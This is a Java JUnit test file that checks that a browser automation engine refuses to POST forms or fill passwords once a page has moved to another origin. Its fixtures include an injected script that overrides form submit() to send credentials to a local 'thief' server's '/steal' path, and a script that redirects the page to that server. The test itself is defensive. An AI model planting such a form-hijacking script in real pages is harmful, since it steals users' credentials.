package dev.sessioninspector.browser.flow;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertThrows;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import dev.sessioninspector.flow.Flow;
import dev.sessioninspector.flow.FlowListener;
import dev.sessioninspector.flow.FlowOptions;
import dev.sessioninspector.flow.FlowParser;
import dev.sessioninspector.flow.FlowRecorder;
import dev.sessioninspector.flow.FlowRunException;
import dev.sessioninspector.store.Project;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A page cannot steer the browser engine's post or password fill to another origin (issue 13, defect 5). */
class BrowserPostOriginTest {
    /** Replaces submit() so a form goes to the second origin instead. */
    private static final String HIJACK = "<script>HTMLFormElement.prototype.submit = function () {"
            + " this.action = '%s/steal'; HTMLFormElement.prototype.requestSubmit.call(this); };</script>";

    @TempDir
    Path dir;
    private HttpServer flowSite;
    private HttpServer thief;
    private final List<String> flowBodies = new CopyOnWriteArrayList<>();
    private final List<String> thiefBodies = new CopyOnWriteArrayList<>();
    /** "Origin | Referer" of each POST the flow site received ("-" for a header not sent). */
    private final List<String> flowPostSenders = new CopyOnWriteArrayList<>();

    @BeforeEach
    void start() throws IOException {
        thief = server(thiefBodies, "<html><body><p id=\"trap\">elsewhere</p><input id=\"pw\" type=\"password\">"
                + HIJACK.formatted("") + "</body></html>");
        String thiefUrl = "http://127.0.0.1:" + thief.getAddress().getPort();
        flowSite = server(flowBodies, "<html><body><p id=\"home\">home</p>"
                + "<form id=\"f\" method=\"POST\" action=\"/login\"><input id=\"u\" name=\"username\">"
                + "<button id=\"go\" type=\"submit\">go</button></form>" + HIJACK.formatted(thiefUrl)
                + "<script>if (location.pathname === '/away') { location.href = '" + thiefUrl
                + "/trap'; }</script></body></html>");
    }

    @AfterEach
    void stop() {
        flowSite.stop(0);
        thief.stop(0);
    }

    @Test
    void aPostFromAPageThatWentToAnotherOriginIsRefusedAndSendsNoPassword() {
        Flow flow = flow("""
                {"get": "/away"}, {"waitFor": "#trap"},
                {"post": "/login", "form": {"username": "alice", "password": "wonderland"}}""");
        FlowRunException e = assertThrows(FlowRunException.class, () -> run(flow));
        assertThat(e.getMessage()).isEqualTo("step 3 (POST /login): refused: the current page is on http://127.0.0.1:"
                + thief.getAddress().getPort() + ", not on the flow's origin " + origin()
                + " (no form or password is sent from another origin)");
        assertThat(thiefBodies).noneMatch(b -> b.contains("wonderland"));
        assertThat(flowBodies).noneMatch(b -> b.contains("wonderland"));
    }

    @Test
    void aPasswordIsNotTypedIntoAPageOfAnotherOrigin() {
        Flow flow = flow("""
                {"get": "/away"}, {"waitFor": "#trap"}, {"fill": "#pw", "value": "wonderland"}""");
        FlowRunException e = assertThrows(FlowRunException.class, () -> run(flow));
        assertThat(e.getMessage()).startsWith("step 3 (fill #pw): refused: the current page is on http://127.0.0.1:"
                + thief.getAddress().getPort() + ", not on the flow's origin " + origin());
        assertThat(e.getMessage()).doesNotContain("\n");
    }

    @Test
    void aPageThatReplacesSubmitCannotRedirectThePost() {
        Flow flow = flow("""
                {"get": "/"}, {"post": "/login", "form": {"username": "alice", "password": "wonderland"}}""");
        run(flow);
        assertThat(thiefBodies).noneMatch(b -> b.contains("wonderland"));
        assertThat(flowBodies).containsExactly("username=alice&password=wonderland");
    }

    /**
     * What docs/flows.md says of the two ways to send a form: the engine's {@code post} step submits from a document
     * of its own, so WebKit sends {@code Origin: null} and no {@code Referer} (a site that checks them, or wants its
     * CSRF token, needs {@code fill} and {@code click}); a click on the page's own form sends the page's origin.
     */
    @Test
    void aPostStepSendsOriginNullWhileAClickOnThePagesFormSendsThePagesOrigin() {
        run(flow("""
                {"get": "/"}, {"post": "/login", "form": {"username": "alice"}},
                {"get": "/"}, {"fill": "#u", "value": "bob"}, {"click": "#go"}"""));
        assertThat(flowBodies).containsExactly("username=alice", "username=bob");
        assertThat(flowPostSenders).containsExactly("null | -", origin() + " | " + origin() + "/");
    }

    private String origin() {
        return "http://127.0.0.1:" + flowSite.getAddress().getPort();
    }

    private Flow flow(String steps) {
        return FlowParser.parse("{ \"name\": \"hostile\", \"baseUrl\": \"" + origin() + "\", \"steps\": [ " + steps
                + " ] }", "hostile.json");
    }

    private void run(Flow flow) {
        try (Project project = Project.open(dir.resolve("p" + System.nanoTime() + ".db"))) {
            FlowRecorder.record(project, flow, new BrowserFlowEngine(Duration.ofSeconds(10)), Clock.systemUTC(),
                    FlowOptions.defaults(), FlowListener.NONE);
        }
    }

    private HttpServer server(List<String> bodies, String page) throws IOException {
        HttpServer s = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        s.createContext("/", x -> {
            String body = new String(x.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
            if ("POST".equals(x.getRequestMethod())) {
                bodies.add(body);
                if (bodies == flowBodies) {
                    flowPostSenders.add(header(x, "Origin") + " | " + header(x, "Referer"));
                }
            }
            byte[] out = page.getBytes(StandardCharsets.UTF_8);
            x.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
            x.sendResponseHeaders(200, out.length);
            x.getResponseBody().write(out);
            x.close();
        });
        s.start();
        return s;
    }

    private static String header(HttpExchange x, String name) {
        String value = x.getRequestHeaders().getFirst(name);
        return value == null ? "-" : value;
    }
}
